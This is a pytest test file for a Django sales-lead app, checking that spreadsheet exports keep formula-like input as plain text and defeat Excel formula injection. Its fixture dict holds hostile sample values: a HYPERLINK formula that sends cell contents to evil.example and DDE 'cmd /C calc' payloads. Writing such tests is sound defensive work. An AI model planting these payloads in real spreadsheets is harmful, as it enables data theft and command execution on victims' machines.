"""Exports write formula-like text as text (no Excel formula injection), and it reads back unchanged."""

from __future__ import annotations

import io

import pytest
from django.test import Client
from openpyxl import load_workbook

from salesflow.core.testing import Trio
from salesflow.imports import selectors, services, xlsx
from salesflow.leads import services as lead_services
from salesflow.leads.models import Lead

pytestmark = pytest.mark.django_db

PLANTED = {
    "name": '=HYPERLINK("https://evil.example/?d="&A1,"点我")',
    "title": "+1+cmd|' /C calc'!A0",
    "company": "-2+3 某某医院",
    "message": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def _data_cells(data: bytes) -> list[list[tuple[object, str]]]:
    """(value, openpyxl data type) of every data row, read as Excel would (formulas kept)."""
    book = load_workbook(io.BytesIO(data))
    sheet = book.worksheets[0]
    return [[(c.value, c.data_type) for c in row] for row in sheet.iter_rows(min_row=2)]


def test_text_planted_through_the_website_form_is_exported_as_text_not_a_formula(
    trio: Trio, client: Client
) -> None:
    form = lead_services.form_create(name="官网表单", actor=trio.admin, default_source="website")
    response = client.post(
        f"/api/v1/intake/{form.key}",
        {**PLANTED, "phone": "13800000009", "industry_segment": "hospital_public"},
        content_type="application/json",
    )
    assert response.status_code == 201
    exported = selectors.export_workbook("leads", None, {})
    [row] = _data_cells(exported)
    by_header = dict(zip(selectors.headers_of("leads"), row, strict=True))
    for field, header in (("name", "姓名"), ("title", "职务"), ("company", "公司"), ("message", "留言")):
        value, data_type = by_header[header]
        assert (value, data_type) == (PLANTED[field], "s"), header
    cell = load_workbook(io.BytesIO(exported)).worksheets[0]["A2"]
    assert cell.quotePrefix  # stays text even when someone edits the cell in Excel

    # Importing our own export gives the very same text back (no apostrophe added, none lost).
    Lead.objects.all().delete()
    result = services.import_run(kind="leads", sheet=xlsx.read(exported), actor=trio.admin)
    assert result.errors == [] and result.created == 1
    lead = Lead.objects.get()
    assert {field: getattr(lead, field) for field in PLANTED} == PLANTED


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\t=1+1", "\r=1+1", "=", "-"])
def test_every_formula_prefix_is_written_as_a_string_cell(text: str) -> None:
    data = xlsx.write(["备注", "数值"], [[text, -5], ["正常文本", 3]])
    rows = _data_cells(data)
    # XML parsers turn a bare CR into LF (openpyxl writes it as is); that is not ours to change.
    expected = text.replace("\r", "\n")
    assert rows[0][0] == (expected, "s")
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    assert sheet["A2"].quotePrefix and not sheet["A3"].quotePrefix  # Excel keeps it text when edited
    assert rows[0][1] == (-5, "n")  # numbers stay numbers
    assert rows[1][0] == ("正常文本", "s")
    assert xlsx.read(data).rows[0][1][0] == expected
